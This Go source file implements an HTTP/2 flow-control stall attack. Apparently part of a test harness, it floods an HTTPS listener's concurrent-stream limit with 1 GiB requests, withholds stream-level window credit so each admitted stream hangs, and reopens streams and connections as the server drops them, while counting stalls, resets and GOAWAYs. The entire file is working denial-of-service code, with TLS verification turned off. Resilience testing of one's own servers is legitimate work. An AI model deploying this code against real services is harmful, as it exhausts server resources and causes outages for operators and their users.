package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Streams: p.Conns HTTP/2 connections from one address to the HTTPS
// listener, each keeping open as many streams as the server's
// SETTINGS_MAX_CONCURRENT_STREAMS allows. Each stream asks the
// attacker's own tunnel for 1 GiB and is never given flow-control credit
// past its first 64 KiB (the connection's window is kept open, so that
// refusals and their bodies get through): every stream the server admits
// stalls and holds a tunnel stream. A stream that ends is opened again
// after 100 ms; a connection the server closes, after a second.
func h2Streams(ctx context.Context, p params, c *counters) error {
	var wg sync.WaitGroup
	var stalled atomic.Int64 // streams answered 200 and not ended, all connections
	for range p.Conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				err := h2Session(ctx, p, c, &stalled)
				if ctx.Err() != nil {
					return
				}
				if err != nil {
					c.add("conn_error", 1)
				} else {
					c.add("conn_closed_by_server", 1)
				}
				sleepCtx(ctx, time.Second)
			}
		}()
	}
	wg.Wait()
	return nil
}

// h2Session runs one connection until the server closes it or ctx ends.
func h2Session(ctx context.Context, p params, c *counters, stalled *atomic.Int64) error {
	d := &net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: h2Addrs[0].AsSlice()}}
	tc, err := tls.DialWithDialer(d, "tcp", p.HTTPS, &tls.Config{ServerName: p.Host, NextProtos: []string{"h2"}, InsecureSkipVerify: true})
	if err != nil {
		return err
	}
	defer tc.Close()
	stop := context.AfterFunc(ctx, func() { tc.Close() })
	defer stop()
	if tc.ConnectionState().NegotiatedProtocol != "h2" {
		return errors.New("the server did not negotiate h2")
	}
	c.add("conns", 1)
	if _, err := tc.Write([]byte(http2.ClientPreface)); err != nil {
		return err
	}
	fr := http2.NewFramer(tc, tc)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	var wmu sync.Mutex // the framer's writes and the encoder
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	write := func(f func() error) error {
		wmu.Lock()
		defer wmu.Unlock()
		return f()
	}
	if err := write(func() error { return fr.WriteSettings() }); err != nil {
		return err
	}

	// slots holds a token per stream the opener may open; the reader
	// gives one back when a stream ends.
	slots := make(chan struct{}, 1000)
	maxStreams := 100 // until the server's SETTINGS say otherwise
	for range maxStreams {
		slots <- struct{}{}
	}
	var mu sync.Mutex
	ok200 := map[uint32]bool{} // streams answered 200, not ended
	end := func(id uint32) {
		mu.Lock()
		if ok200[id] {
			delete(ok200, id)
			stalled.Add(-1)
		}
		mu.Unlock()
		// A stream that ended is opened again after 100 ms: enough to
		// keep the server full, without spinning on refusals.
		time.AfterFunc(100*time.Millisecond, func() {
			select {
			case slots <- struct{}{}:
			default:
			}
		})
	}
	readErr := make(chan error, 1)
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				readErr <- err
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if f.IsAck() {
					continue
				}
				if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
					c.peak("server_max_concurrent_streams", int64(v))
					// Take back the slots above the server's bound.
					for ; maxStreams > int(v); maxStreams-- {
						<-slots
					}
				}
				write(func() error { return fr.WriteSettingsAck() })
			case *http2.PingFrame:
				if !f.IsAck() {
					write(func() error { return fr.WritePing(true, f.Data) })
				}
			case *http2.MetaHeadersFrame:
				status := f.PseudoValue("status")
				c.add("status_"+status, 1)
				if status == "200" && !f.StreamEnded() {
					mu.Lock()
					ok200[f.StreamID] = true
					mu.Unlock()
					c.peak("stalled_peak", stalled.Add(1))
				}
				if f.StreamEnded() {
					end(f.StreamID)
				}
			case *http2.DataFrame:
				// Credit for the connection, none for the stream.
				if n := f.Length; n > 0 {
					write(func() error { return fr.WriteWindowUpdate(0, n) })
				}
				if f.StreamEnded() {
					end(f.StreamID)
				}
			case *http2.RSTStreamFrame:
				c.add("rst_"+strings.ToLower(f.ErrCode.String()), 1)
				end(f.StreamID)
			case *http2.GoAwayFrame:
				c.add("goaway_"+strings.ToLower(f.ErrCode.String()), 1)
			}
		}
	}()
	defer func() {
		mu.Lock()
		stalled.Add(-int64(len(ok200)))
		mu.Unlock()
	}()

	path := fmt.Sprintf("/?size=%d", int64(1)<<30)
	for id := uint32(1); ; id += 2 {
		select {
		case <-ctx.Done():
			return nil
		case err := <-readErr:
			if ctx.Err() != nil {
				return nil
			}
			return closedOrErr(err)
		case <-slots:
		}
		err := write(func() error {
			hbuf.Reset()
			for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", p.Host}, {":path", path}} {
				enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
			}
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndStream: true, EndHeaders: true})
		})
		if err != nil {
			if ctx.Err() != nil {
				return nil
			}
			return closedOrErr(err)
		}
		c.add("streams_opened", 1)
	}
}

// closedOrErr is nil for a connection the server closed, err otherwise.
func closedOrErr(err error) error {
	if errors.Is(err, net.ErrClosed) || strings.Contains(err.Error(), "EOF") || strings.Contains(err.Error(), "reset by peer") {
		return nil
	}
	return err
}
